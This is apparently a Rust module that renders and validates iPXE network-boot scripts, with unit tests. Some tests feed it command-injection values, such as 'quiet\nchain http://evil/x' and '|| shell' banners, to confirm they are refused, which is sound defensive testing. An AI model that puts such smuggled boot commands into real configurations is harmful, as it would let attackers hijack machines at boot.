//! iPXE scripts, rendered as pure functions.
//!
//! How iPXE reads a script (`src/image/script.c`, `src/core/exec.c`) decides what a value we
//! put into one may contain:
//! - lines end at `\n` (a trailing `\r` is dropped); a line ending in `\` is joined with the
//!   next one;
//! - a line is split on whitespace into tokens, so a value with a space becomes two arguments;
//! - a token starting with `#` starts a comment, and the tokens `||`, `&&` and `;` end a
//!   command and start another;
//! - every token is then expanded: `${name}` is replaced by a setting's value;
//! - a command's options end at its first non-option argument (a URL, for us).
//!
//! So every value interpolated here must be one *safe word* ([`check_word`]): printable
//! ASCII without whitespace, `\` or `${`, not starting with `#`, and not a separator token.
//! Values that fail are refused (validation reports them with file and field; rendering
//! returns an error rather than a script). Free text (banners) is reduced to a harmless
//! character set instead. An operator's whole custom script is served as written: it is
//! the operator's program, not a value.
//!
//! [`reader`] reads a script the way iPXE does; the tests and the fuzzer (`bootsvc/fuzz`)
//! check every rendered script against it.

pub mod reader;

use osie_api::{BootParams, MacAddr};

use crate::arch::Arch;

/// Why a value cannot go into a script.
pub type Unsafe = String;

/// The path (under `public_url`) of `mac`'s script for an iPXE built for `arch`, which
/// DHCP hands out: `boot/<mac>.ipxe`, `boot/arm64/<mac>.ipxe`. The script names that
/// architecture's kernel and initramfs.
pub fn script_path(mac: MacAddr, arch: Arch) -> String {
    format!("boot/{}{mac}.ipxe", arch.subdir())
}

/// A script path read back (no leading `/`): the MAC and the architecture.
pub fn parse_script_path(path: &str) -> Option<(MacAddr, Arch)> {
    let (arch, rest) = Arch::split_path(path.strip_prefix("boot/")?);
    let mac = rest.strip_suffix(".ipxe")?.parse().ok()?;
    Some((mac, arch))
}

/// `Ok` if `w` stays exactly one inert token in an iPXE command line.
pub fn check_word(w: &str) -> Result<(), Unsafe> {
    if w.is_empty() {
        return Err("is empty".into());
    }
    if let Some(c) = w.chars().find(|c| !matches!(c, '!'..='~')) {
        return Err(format!(
            "contains {c:?}: only printable ASCII without spaces can go into an iPXE command (iPXE splits on whitespace)"
        ));
    }
    if w.contains('\\') {
        return Err("contains a backslash (iPXE joins a line ending in one with the next line)".into());
    }
    if w.contains("${") {
        return Err("contains \"${\" (iPXE would expand it as a setting)".into());
    }
    if w.starts_with('#') {
        return Err("starts with '#' (iPXE would read the rest of the line as a comment)".into());
    }
    if matches!(w, "||" | "&&" | ";") {
        return Err(format!("is {w:?}, an iPXE command separator"));
    }
    Ok(())
}

/// Split kernel arguments written as one string (`"console=ttyS0 quiet"`) into safe words.
/// Only spaces separate; any other whitespace or control character is refused, so a newline
/// can never start a new command, and so is `"`, which the kernel reads as quoting.
pub fn split_args(s: &str) -> Result<Vec<String>, Unsafe> {
    if let Some(c) = s.chars().find(|c| *c != ' ' && !matches!(c, '!'..='~')) {
        return Err(format!("contains {c:?}: kernel arguments are printable ASCII separated by spaces"));
    }
    if s.contains('"') {
        // The kernel (and the installer reading /proc/cmdline) take `"` as quoting: an
        // unbalanced one swallows every argument after it, osie.url and osie.mac included.
        return Err(
            "contains '\"': the kernel reads quotes as joining words, which would swallow osie.url and osie.mac".into(),
        );
    }
    s.split(' ')
        .filter(|w| !w.is_empty())
        .map(|w| check_word(w).map(|()| w.to_string()).map_err(|e| format!("argument {w:?} {e}")))
        .collect()
}

/// The installer's kernel command line: the service's arguments, the machine's, then
/// `osie.url` and `osie.mac` (last, so they win), each argument a safe word. `osie_url` is
/// one base URL or several separated by commas (this instance first, then its peers).
/// Refused when the installer would not read back exactly these URLs and MAC from it (an
/// `osie.ip=` it cannot parse, say): such a machine would boot into an installer that gives
/// up at once.
pub fn installer_args(
    osie_url: &str,
    service: &str,
    machine: Option<&str>,
    mac: MacAddr,
) -> Result<Vec<String>, Unsafe> {
    let mut args = split_args(service)?;
    if let Some(a) = machine {
        args.extend(split_args(a)?);
    }
    let urls = osie_api::cmdline::parse_urls(osie_url).map_err(|e| e.to_string())?;
    let mut each = urls.iter().cloned();
    let url = each.next().ok_or("osie.url is empty")?;
    let params = BootParams { url, fallback_urls: each.collect(), mac, ip: None, debug: false, rescue: false };
    args.extend(params.to_args());
    match BootParams::parse(&args.join(" ")) {
        Ok(p) if p.urls() == urls && p.mac == mac => Ok(args),
        Ok(p) => Err(format!("the installer would read osie.url={} osie.mac={} from it", p.urls().join(","), p.mac)),
        Err(e) => Err(format!("the installer could not read it: {e}")),
    }
}

/// `Ok` if `url` is a safe word with one of `schemes` (`"http"`, `"https"`…) and a host.
pub fn check_url(url: &str, schemes: &[&str]) -> Result<(), Unsafe> {
    check_word(url)?;
    let Some((scheme, rest)) = url.split_once("://") else {
        return Err(format!("is not a URL: expected {}://host/…", schemes.join("|")));
    };
    if !schemes.contains(&scheme) {
        return Err(format!("has scheme {scheme:?}: expected {}", schemes.join(" or ")));
    }
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    if host.is_empty() || host.starts_with(':') {
        return Err("has no host".into());
    }
    Ok(())
}

/// The installer boot: kernel and initramfs over HTTP, kernel command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Installer<'a> {
    pub kernel_url: &'a str,
    pub initrd_url: &'a str,
    /// The same kernel and initramfs on the site's other instances, (kernel, initrd) each:
    /// iPXE tries them in order when a fetch from the one before fails.
    pub fallbacks: &'a [(String, String)],
    /// Kernel command-line words (after the `initrd=` this adds).
    pub args: &'a [String],
    /// Shown on the console, e.g. `node1 (52:54:00:00:00:01)`.
    pub banner: &'a str,
}

/// Name iPXE gives the initramfs image; the kernel's EFI stub loads it by this name
/// (`initrd=`). Harmless for BIOS boots, needed for UEFI.
const INITRD_NAME: &str = "initrd";

/// The installer script. Each of the kernel and the initramfs is fetched from this instance,
/// else from each fallback in turn (`kernel A || kernel B || goto osie_failed`); when none
/// can be loaded it tries again every 10 s.
pub fn installer(i: &Installer) -> Result<String, Unsafe> {
    let kernels: Vec<&str> = std::iter::once(i.kernel_url).chain(i.fallbacks.iter().map(|f| f.0.as_str())).collect();
    let initrds: Vec<&str> = std::iter::once(i.initrd_url).chain(i.fallbacks.iter().map(|f| f.1.as_str())).collect();
    for k in &kernels {
        check_url(k, &["http", "https"]).map_err(|e| format!("kernel URL {k:?} {e}"))?;
    }
    for r in &initrds {
        check_url(r, &["http", "https"]).map_err(|e| format!("initrd URL {r:?} {e}"))?;
    }
    for a in i.args {
        check_word(a).map_err(|e| format!("kernel argument {a:?} {e}"))?;
    }
    let mut s = String::from("#!ipxe\n");
    s += &echo(&format!("installing {}", i.banner));
    s += ":osie_retry\n";
    for k in &kernels {
        s += &format!("kernel --name vmlinuz {k} initrd={INITRD_NAME}");
        for a in i.args {
            s.push(' ');
            s.push_str(a);
        }
        s += " || ";
    }
    s += "goto osie_failed\n";
    for r in &initrds {
        s += &format!("initrd --name {INITRD_NAME} {r} || ");
    }
    s += "goto osie_failed\n";
    s += "boot || goto osie_failed\n";
    s += ":osie_failed\n";
    s += &echo("could not load the installer, trying again in 10 seconds");
    s += "sleep 10\n";
    s += "goto osie_retry\n";
    Ok(s)
}

/// Chain to the machine's own script URL; back to local boot if that fails.
pub fn chain(url: &str, banner: &str) -> Result<String, Unsafe> {
    check_url(url, &["http", "https", "tftp"]).map_err(|e| format!("script URL {url:?} {e}"))?;
    let mut s = String::from("#!ipxe\n");
    s += &echo(&format!("chaining to the script of {banner}"));
    s += &format!("chain --autofree {url} || goto osie_failed\n");
    s += "exit\n";
    s += ":osie_failed\n";
    s += &echo("the script could not be loaded, booting from local disk");
    s += "exit 1\n";
    Ok(s)
}

/// The operator's own script, as written; the `#!ipxe` magic is added if missing.
pub fn custom(script: &str) -> String {
    let has_magic = script.starts_with("#!ipxe") || script.starts_with("#!gpxe");
    let mut s = if has_magic { String::new() } else { String::from("#!ipxe\n") };
    s.push_str(script);
    if !s.ends_with('\n') {
        s.push('\n');
    }
    s
}

/// Boot the local disk. On BIOS iPXE boots the first hard disk itself (INT 13h drive 0x80):
/// after `exit` it would wait 2 s at its "Press Ctrl-B" prompt (it offers the shell after
/// every autoboot) before the BIOS moved on to the disk. A disk without a boot sector makes
/// `sanboot` fail and the script goes on to `exit`, as do UEFI builds, whose firmware then
/// takes its next boot option.
pub fn local_boot(reason: &str) -> String {
    let mut s = String::from("#!ipxe\n");
    s += &echo(&format!("{reason}, booting from local disk"));
    s += "iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||\n";
    s += "exit\n";
    s
}

/// An `echo osie: …` line whose text cannot be anything but text.
fn echo(text: &str) -> String {
    format!("echo osie: {}\n", banner_text(text))
}

/// Free text reduced to characters that mean nothing to iPXE's parser; at most 200 of them.
pub fn banner_text(text: &str) -> String {
    text.chars()
        .take(200)
        .map(|c| if c.is_ascii_alphanumeric() || " .,:/()_+=@-".contains(c) { c } else { '_' })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    use reader::{commands, names};

    fn args(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn script_paths_name_the_architecture() {
        let mac = MacAddr::new([0x52, 0x54, 0, 0, 0, 1]);
        assert_eq!(script_path(mac, Arch::X86_64), "boot/52:54:00:00:00:01.ipxe");
        assert_eq!(script_path(mac, Arch::Aarch64), "boot/arm64/52:54:00:00:00:01.ipxe");
        for arch in [Arch::X86_64, Arch::Aarch64] {
            assert_eq!(parse_script_path(&script_path(mac, arch)), Some((mac, arch)));
        }
        for bad in ["boot/x86_64/52:54:00:00:00:01.ipxe", "boot/arm64/arm64/52:54:00:00:00:01.ipxe", "boot/52.ipxe"] {
            assert_eq!(parse_script_path(bad), None, "{bad}");
        }
    }

    #[test]
    fn installer_script_shape() {
        let a = args(&["console=ttyS0,115200n8", "osie.url=http://192.0.2.1:8080", "osie.mac=52:54:00:00:00:01"]);
        let s = installer(&Installer {
            kernel_url: "http://192.0.2.1:8080/artifacts/vmlinuz",
            initrd_url: "http://192.0.2.1:8080/artifacts/initramfs.img",
            fallbacks: &[],
            args: &a,
            banner: "node1 (52:54:00:00:00:01)",
        })
        .unwrap();
        assert!(s.starts_with("#!ipxe\n"));
        let cmds = commands(&s);
        assert_eq!(
            names(&s),
            [
                "echo",
                ":osie_retry",
                "kernel",
                "goto",
                "initrd",
                "goto",
                "boot",
                "goto",
                ":osie_failed",
                "echo",
                "sleep",
                "goto"
            ]
        );
        let kernel = &cmds[2].tokens;
        assert_eq!(
            kernel,
            &args(&[
                "kernel",
                "--name",
                "vmlinuz",
                "http://192.0.2.1:8080/artifacts/vmlinuz",
                "initrd=initrd",
                "console=ttyS0,115200n8",
                "osie.url=http://192.0.2.1:8080",
                "osie.mac=52:54:00:00:00:01"
            ])
        );
        assert_eq!(
            cmds[4].tokens,
            args(&["initrd", "--name", "initrd", "http://192.0.2.1:8080/artifacts/initramfs.img"])
        );
    }

    #[test]
    fn fallbacks_follow_on_failure() {
        let a = args(&["osie.url=http://192.0.2.1:8080,http://192.0.2.2:8080", "osie.mac=52:54:00:00:00:01"]);
        let fb =
            [("http://192.0.2.2:8080/artifacts/vmlinuz".to_string(), "http://192.0.2.2:8080/artifacts/i".to_string())];
        let s = installer(&Installer {
            kernel_url: "http://192.0.2.1:8080/artifacts/vmlinuz",
            initrd_url: "http://192.0.2.1:8080/artifacts/i",
            fallbacks: &fb,
            args: &a,
            banner: "n1",
        })
        .unwrap();
        let cmds = commands(&s);
        let shape: Vec<(String, Option<&str>)> = cmds.iter().map(|c| (c.name(), c.then)).collect();
        let want = [
            ("echo", None),
            (":osie_retry", None),
            ("kernel", Some("||")),
            ("kernel", Some("||")),
            ("goto", None),
            ("initrd", Some("||")),
            ("initrd", Some("||")),
            ("goto", None),
            ("boot", Some("||")),
            ("goto", None),
            (":osie_failed", None),
            ("echo", None),
            ("sleep", None),
            ("goto", None),
        ];
        let want: Vec<(String, Option<&str>)> = want.iter().map(|(n, t)| (n.to_string(), *t)).collect();
        assert_eq!(shape, want, "{s}");
        assert_eq!(cmds[2].tokens[3], "http://192.0.2.1:8080/artifacts/vmlinuz");
        assert_eq!(cmds[3].tokens[3], "http://192.0.2.2:8080/artifacts/vmlinuz");
        assert_eq!(cmds[2].tokens[4..], cmds[3].tokens[4..], "the same command line from either");
        assert_eq!(cmds[5].tokens, args(&["initrd", "--name", "initrd", "http://192.0.2.1:8080/artifacts/i"]));
        assert_eq!(cmds[6].tokens, args(&["initrd", "--name", "initrd", "http://192.0.2.2:8080/artifacts/i"]));
        assert_eq!(
            (cmds[4].tokens.clone(), cmds[7].tokens.clone()),
            (args(&["goto", "osie_failed"]), args(&["goto", "osie_failed"]))
        );
    }

    #[test]
    fn hostile_words_are_refused() {
        for bad in [
            "a\nchain",
            "quiet\r",
            "x\\",
            "${net0/ip}",
            "a${x}",
            "#",
            "#rest",
            "||",
            "&&",
            ";",
            "tab\there",
            "nul\0",
            "é",
            "",
        ] {
            assert!(check_word(bad).is_err(), "{bad:?} accepted");
        }
        for good in ["quiet", "console=ttyS0,115200n8", "a;b", "x||y", "$HOME", "50%", "-"] {
            check_word(good).unwrap();
        }
    }

    #[test]
    fn split_args_refuses_control_characters() {
        assert_eq!(split_args("  console=tty0   quiet ").unwrap(), args(&["console=tty0", "quiet"]));
        assert_eq!(split_args("").unwrap(), Vec::<String>::new());
        // `!"#…`: found by fuzzing (bootsvc/fuzz, target ipxe): the quote joined everything
        // after it into one kernel parameter, and the installer found no osie.url.
        for bad in
            ["quiet\nchain http://evil/x", "a\tb", "quiet ${x}", "quiet || shell", "a \\", "x #comment", "!\"#$%&'()"]
        {
            let e = split_args(bad).unwrap_err();
            assert!(!e.is_empty(), "{bad:?}");
        }
    }

    #[test]
    fn installer_args_must_read_back() {
        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
        let a = installer_args("http://192.0.2.1:8080", "console=ttyS0", Some("osie.debug"), mac).unwrap();
        assert_eq!(
            a,
            args(&["console=ttyS0", "osie.debug", "osie.url=http://192.0.2.1:8080", "osie.mac=52:54:00:00:00:01"])
        );
        // An osie.ip the installer cannot parse makes it give up before it does anything.
        let e = installer_args("http://192.0.2.1:8080", "", Some("osie.ip=nonsense"), mac).unwrap_err();
        assert!(e.contains("could not read"), "{e}");
        assert!(installer_args("http://192.0.2.1:8080", "", Some("osie.ip=192.0.2.9/24,192.0.2.1"), mac).is_ok());
        // Peers: the whole list, in order, last on the line.
        let a = installer_args("http://192.0.2.1:8080,http://192.0.2.2:8080", "", Some("osie.url=http://evil"), mac)
            .unwrap();
        assert_eq!(a[1], "osie.url=http://192.0.2.1:8080,http://192.0.2.2:8080");
        let e = installer_args("http://192.0.2.1:8080,ftp://x", "", None, mac).unwrap_err();
        assert!(e.contains("entry 2"), "{e}");
    }

    #[test]
    fn urls_need_a_scheme_and_host() {
        check_url("http://192.0.2.1:8080/x.ipxe", &["http"]).unwrap();
        check_url("https://boot.example/a?b=c", &["http", "https"]).unwrap();
        for bad in
            ["ftp://x/y", "http://", "http:///x", "192.0.2.1/x", "http://x/${mac}", "http://x/a b", "http://:80/"]
        {
            assert!(check_url(bad, &["http", "https"]).is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn rendering_refuses_what_validation_would() {
        let a = args(&["quiet", "|| shell"]);
        let i = Installer { kernel_url: "http://s/k", initrd_url: "http://s/i", fallbacks: &[], args: &a, banner: "x" };
        assert!(installer(&i).is_err());
        let i = Installer {
            kernel_url: "http://s/k\nshell",
            initrd_url: "http://s/i",
            fallbacks: &[],
            args: &[],
            banner: "x",
        };
        assert!(installer(&i).is_err());
        let bad = [("http://t/k".to_string(), "http://t/i ||shell".to_string())];
        let i =
            Installer { kernel_url: "http://s/k", initrd_url: "http://s/i", fallbacks: &bad, args: &[], banner: "x" };
        assert!(installer(&i).is_err(), "a fallback is checked like the first");
        assert!(chain("http://s/x\nshell", "x").is_err());
        assert!(chain("http://s/${x}", "x").is_err());
    }

    #[test]
    fn hostile_banners_stay_one_echo() {
        for evil in ["n1\nshell", "n1 || shell", "n1 ; shell", "${ip}", "n1 #", "n1\\", "n1\r\nkernel http://evil/"] {
            let s = local_boot(evil);
            assert_eq!(names(&s), ["echo", "iseq", "sanboot", "exit"], "{evil:?} -> {s:?}");
            // The only expansion is the script's own `${platform}`, never the banner's.
            assert_eq!(s.matches("${").count(), 1, "{s}");
            assert!(s.contains("${platform}"), "{s}");
            let s = chain("http://s/x.ipxe", evil).unwrap();
            assert_eq!(names(&s), ["echo", "chain", "goto", "exit", ":osie_failed", "echo", "exit"]);
        }
    }

    #[test]
    fn chain_and_local_boot_shapes() {
        let s = chain("http://192.0.2.9/boot.ipxe", "node1").unwrap();
        let cmds = commands(&s);
        assert_eq!(cmds[1].tokens, args(&["chain", "--autofree", "http://192.0.2.9/boot.ipxe"]));
        // BIOS iPXE boots the first disk itself; a disk it cannot boot, and UEFI, `exit`.
        assert_eq!(
            local_boot("unknown machine"),
            "#!ipxe\necho osie: unknown machine, booting from local disk\n\
             iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||\nexit\n"
        );
    }

    #[test]
    fn custom_scripts_get_the_magic() {
        assert_eq!(custom("echo hi\nshell"), "#!ipxe\necho hi\nshell\n");
        assert_eq!(custom("#!ipxe\nshell\n"), "#!ipxe\nshell\n");
    }
}
